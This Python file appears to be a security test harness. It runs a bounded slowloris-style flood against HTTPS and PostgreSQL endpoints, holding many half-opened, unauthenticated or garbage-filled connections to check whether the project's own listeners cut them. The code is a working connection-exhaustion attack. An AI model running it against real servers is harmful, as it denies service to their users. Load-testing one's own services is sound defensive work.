"""A bounded flood, run inside a container of the network `front` (standard library only).

Reads its orders as JSON after this file's text (see ``tests/security/_flood.py``), opens
connections, holds them without ever finishing what they start, and prints what became of them.
"""

import asyncio
import json
import ssl
import struct
import sys
import time
from typing import Any

SSL_REQUEST = struct.pack("!II", 8, 80877103)
# One for all, and without the system's authorities: to read them for each connection kept the
# attacker busy for seconds, in which it took every place for held (seen: 23 s where all is cut
# after ten).
TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE
# A connection that lasts less was refused; more, it took a place. No door lets go of a place in
# less than 5 s, and this loop, with thousands of connections to look at, learns late of a refusal.
HELD_SECONDS = 3.0
# Connections per second and target. All at once, they would overflow the door's queue (listen(2)):
# the attacker would believe open what the door only sees, and times, many seconds later.
PACE = 400
# Rounds of a client that comes back each time it is cut.
ROUNDS = 20


def startup(user: str, database: str) -> bytes:
    """Return a StartupMessage: what follows would be the password, which never comes."""
    names = f"user\0{user}\0database\0{database}\0\0".encode()
    return struct.pack("!II", 8 + len(names), 196608) + names


async def speak(
    mode: str, target: dict[str, Any], reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Begin a conversation in one of the ways of an attacker, and never end it."""
    if mode == "muet":
        return
    if mode == "inintelligible":
        writer.write(b"\x00" * 64)
    elif mode == "tls-inachevé":
        writer.write(b"\x16\x03\x01" if target["https"] else SSL_REQUEST)
    elif mode == "sans-mot-de-passe":
        if not target["https"]:
            writer.write(SSL_REQUEST)
            await reader.readexactly(1)
        await writer.start_tls(TLS)
        hello = b"GET / HTTP/1.1\r\n" if target["https"] else startup(target["user"], "app")
        writer.write(hello)
    await writer.drain()


async def once(mode: str, target: dict[str, Any], deadline: float) -> dict[str, Any]:
    """Open one connection; return how long it lasted, and was idle until cut or the end."""
    found = {"lasted": 0.0, "idle": 0.0}
    try:
        reader, writer = await asyncio.open_connection(target["host"], target["port"])
    except OSError:
        return found
    start = idle_since = time.monotonic()
    try:
        async with asyncio.timeout_at(deadline):
            await speak(mode, target, reader, writer)
            idle_since = time.monotonic()
            while await reader.read(4096):
                continue
    except (OSError, TimeoutError, asyncio.IncompleteReadError):
        pass
    finally:
        writer.close()
    end = time.monotonic()
    return found | {"lasted": end - start, "idle": end - idle_since}


async def slot(
    mode: str, target: dict[str, Any], deadline: float, number: int
) -> list[dict[str, Any]]:
    """Hold one place, and come back when it is cut."""
    await asyncio.sleep(number / PACE)
    found = []
    for _ in range(ROUNDS if mode == "inintelligible" else 1):
        if asyncio.get_running_loop().time() >= deadline:
            break
        found.append(await once(mode, target, deadline))
    return found


async def attack(orders: dict[str, Any]) -> list[dict[str, Any]]:
    """Attack every target at once; return what each granted."""
    deadline = asyncio.get_running_loop().time() + orders["seconds"]

    async def flood(target: dict[str, Any]) -> dict[str, Any]:
        mode, count = orders["mode"], target["count"]
        slots = (slot(mode, target, deadline, number) for number in range(count))
        tries = [one for found in await asyncio.gather(*slots) for one in found]
        held = [one for one in tries if one["lasted"] >= HELD_SECONDS]
        return {
            "name": target["name"],
            "tried": len(tries),
            "held": len(held),
            "longest_idle": max((one["idle"] for one in held), default=0.0),
        }

    return list(await asyncio.gather(*(flood(target) for target in orders["targets"])))


print(json.dumps(asyncio.run(attack(json.loads(sys.argv[1])))))
